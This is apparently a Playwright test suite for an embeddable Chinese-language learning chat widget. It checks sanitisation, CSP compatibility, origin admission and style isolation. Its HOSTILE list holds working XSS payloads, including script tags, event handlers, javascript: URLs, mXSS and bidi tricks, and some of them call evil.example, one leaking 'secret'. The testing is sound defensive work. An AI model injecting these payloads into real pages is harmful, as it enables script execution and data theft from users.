"""What is not ours runs nothing and asks for nothing; strange pages are no hindrance."""

import subprocess

import pytest
from playwright.sync_api import expect

from tests_browser.hand import WIDGET, ask, open_widget, turns
from tests_browser.service import PROJECT, says, source

HOSTILE = [
    "<script>window.__owned=1</script>",
    "<img src=https://evil.example/a.png onerror=window.__owned=1>",
    "![leak](https://evil.example/leak?q=secret)",
    "[click](javascript:window.__owned=1) and [more](data:text/html,<script>window.__owned=1</script>)",
    "<https://evil.example/auto> https://evil.example/bare",
    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=https://evil.example/y.css>",
    "<svg onload=window.__owned=1><a xlink:href=javascript:window.__owned=1>x</a></svg>",
    "<iframe srcdoc='<script>parent.__owned=1</script>'></iframe><base href=https://evil.example/>",
    "$\\href{javascript:window.__owned=1}{x}$ $\\includegraphics{https://evil.example/i.png}$",
    "$$\\style{background:url(https://evil.example/s.png)}{x}$$ $$\\def\\a{\\a\\a}\\a$$",
    "```html\n<script>window.__owned=1</script>\n```",
    "[ref]: https://evil.example 'x'\n\n[ref] ![ref]",
    "| a |\n|---|\n| <img src=x onerror=window.__owned=1> |",
    "<button class=cite onclick=window.__owned=1>1</button><learning-companion src=https://evil.example></learning-companion>",
    "[1] \u202e\u2066 [2]<a href='https://evil.example' onmouseover=window.__owned=1>[1]</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.__owned=1&gt;'>",
]
PLAIN = '<learning-companion open></learning-companion><script src="/widget.js"></script>'


def test_hostile_markdown_runs_nothing_and_asks_for_nothing(stand_in, visit):
    server = stand_in(PLAIN)
    evil = source(
        1, quote="<img src=x onerror=window.__owned=1>", course_title="<b>课</b>", url="javascript:window.__owned=1"
    )
    server.events = says(*(f"{text}\n\n" for text in HOSTILE), sources=[evil], seconds=0.01)
    page = visit(server.url, expects=("404",))
    turn = ask(page, "你好")
    page.wait_for_timeout(500)
    assert page.evaluate("window.__owned") is None
    assert [url for url in page.asked if not url.startswith(server.url)] == []
    assert (
        turn.locator(".body :is(a, img, script, style, link, iframe, svg, base, form, learning-companion)").count() == 0
    )
    assert turn.locator(".body [onclick], .body [onerror], .body [href], .body [src]").count() == 0
    expect(turn.locator(".body pre code")).to_contain_text("<script>")
    assert turn.locator(".body button").evaluate_all("all => all.every((one) => one.className === 'cite')")
    turn.locator(".sources button").first.click()
    expect(page.locator(f"{WIDGET} dialog.source")).to_contain_text("onerror")
    assert page.locator(f"{WIDGET} dialog.source a").count() == 0
    assert page.evaluate("window.__owned") is None


def test_hostile_course_text_runs_nothing_on_any_page(shared, visit):
    page = visit(f"{shared.url}/?q=网页安全")
    open_widget(page)
    turn = ask(page, "什么是脚本注入")
    expect(turn.locator(".body")).to_contain_text("脚本注入是把")
    turn.locator(".cite").first.click()
    expect(page.locator(f"{WIDGET} .passage")).to_contain_text("链接也能")
    page.keyboard.press("Escape")
    ask(page, "有没有讲网页安全的课")
    expect(turns(page).last.locator(".course").first).to_contain_text("网页安全")
    lesson = page.request.get(f"{shared.url}/v1/courses/hostile").json()["lessons"][0]["lesson_id"]
    for path in ("/courses/hostile", f"/lessons/{lesson}"):
        page.goto(shared.url + path)
        expect(page.locator("h1")).to_contain_text("网页安全")
        assert page.locator("main a[href^='javascript'], main img:not([alt=''])").count() == 0
    page.wait_for_timeout(300)
    assert page.evaluate("window.__owned") is None
    assert [url for url in page.asked if not url.startswith(shared.url)] == []


def test_it_works_on_a_page_of_another_origin_with_the_strictest_policy(serve, stand_in, visit):
    host = stand_in()
    service = serve(allowed_origins=host.url)
    host.page = f"""<!doctype html><title>门户</title><script src="{service.url}/widget.js" async></script>
        <p>门户的文字</p><learning-companion src="{service.url}" course-url="/kurs/{{id}}"></learning-companion>"""
    host.headers = {
        "Content-Security-Policy": f"default-src 'none'; script-src {service.url}; connect-src {service.url}; base-uri 'none'"
    }
    page = visit(host.url, expects=("favicon",))
    open_widget(page)
    turn = ask(page, "圆的面积公式是什么")
    expect(turn.locator("math").first).to_be_visible()
    turn = ask(page, "有没有快递的课")
    assert turn.locator(".course a", has_text="快递").get_attribute("href") == "/kurs/parcels"


def test_a_page_may_pin_the_file_by_its_digest(serve, stand_in, visit):
    host = stand_in()
    service = serve(allowed_origins=host.url)
    host.page = f"""<learning-companion open></learning-companion><script src="{service.url}/widget.js"
        integrity="sha384-{_digest()}" crossorigin="anonymous" async></script>"""
    page = visit(host.url, expects=("favicon",))
    expect(ask(page, "快件丢了谁来赔").locator(".body")).not_to_be_empty()


def _digest():
    """By the command that docs/widget.md tells."""
    there = PROJECT / "companion/http/assets/widget.js"
    command = f"cat {there} | openssl dgst -sha384 -binary | openssl base64 -A"
    return subprocess.run(command, shell=True, check=True, capture_output=True, text=True).stdout


def test_a_page_that_is_not_admitted_is_told_so(shared, stand_in, visit):
    host = stand_in(
        f'<learning-companion src="{shared.url}" open></learning-companion><script src="{shared.url}/widget.js"></script>'
    )
    page = visit(host.url, expects=("CORS", "Failed to load resource", "403", "401"))
    turn = ask(page, "快件丢了谁来赔")
    expect(turn.locator(".problem")).to_be_visible()


def test_several_on_a_page_keep_to_themselves(stand_in, visit):
    server = stand_in(
        """<learning-companion id="a" mode="inline"></learning-companion>
        <learning-companion id="b" mode="inline" locale="en" questions='["What is this?"]'></learning-companion>
        <script src="/widget.js"></script><script src="/widget.js"></script>"""
    )
    server.events = says("好。")
    page = visit(server.url)
    one, other = page.locator("#a"), page.locator("#b")
    expect(other.locator(".starters button")).to_have_text("What is this?")
    one.locator("#message").fill("你好")
    one.locator("#message").press("Enter")
    expect(one.locator("learning-companion-turn .body")).to_contain_text("好")
    expect(other.locator("learning-companion-turn")).to_have_count(0)
    page.reload()
    expect(page.locator("#a learning-companion-turn")).to_have_count(1)
    expect(page.locator("#b learning-companion-turn")).to_have_count(0)


@pytest.mark.parametrize("css", ["* { font-family: cursive !important; all: unset }", "button { display: none }"])
def test_a_pages_own_styles_do_not_reach_in(stand_in, visit, css):
    server = stand_in(f"<style>{css}</style><div style='z-index:99999;position:fixed;inset:0'></div>{PLAIN}")
    server.events = says("好。")
    page = visit(server.url)
    turn = ask(page, "你好")
    expect(turn.get_by_role("button", name="复制")).to_be_visible()


def test_nothing_is_inherited_from_a_page_that_turns_its_text_around(stand_in, visit):
    around = """body { direction: rtl; letter-spacing: 1em; word-spacing: 2em; word-break: break-all; white-space: pre;
        text-align: right; text-transform: uppercase; font-variant: small-caps; writing-mode: vertical-rl; cursor: wait;
        line-height: 4; text-shadow: 9px 9px red; -webkit-text-fill-color: red; user-select: none; hyphens: auto }"""
    plain, turned = stand_in(PLAIN), stand_in(f"<html lang=ar dir=rtl><style>{around}</style>{PLAIN}")
    looks = """(panel) => [...panel.querySelectorAll('*')].map((one) => {
        const at = one.getBoundingClientRect(), style = getComputedStyle(one);
        return [one.localName, at.x, at.y, at.width, at.height, style.letterSpacing, style.textShadow, style.direction,
            style.webkitTextFillColor, style.userSelect, style.cursor];
    })"""
    seen = []
    for server in (plain, turned):
        server.events = says("好。An answer.")
        page = visit(server.url)
        ask(page, "你好")
        seen.append(page.locator(f"{WIDGET} dialog.panel").evaluate(looks))
    assert seen[0] == seen[1]


def test_the_page_hears_of_what_happens_and_may_open_courses_itself(shared, visit):
    page = visit(shared.url)
    page.evaluate(
        """() => { window.heard = [];
            for (const name of ["open", "close", "answer", "course"])
                document.addEventListener(`companion-${name}`, (event) => { window.heard.push([name, event.detail]); if (name === "course") event.preventDefault(); }); }"""
    )
    open_widget(page)
    turn = ask(page, "有没有快递的课")
    turn.locator(".course a").first.click()
    page.evaluate("document.querySelector('learning-companion').close()")
    heard = page.evaluate("window.heard")
    assert [name for name, _ in heard] == ["open", "answer", "course", "close"]
    assert (heard[1][1]["mode"], heard[2][1]["courseId"]) == ("catalogue", "parcels")
    assert page.url.rstrip("/") == shared.url
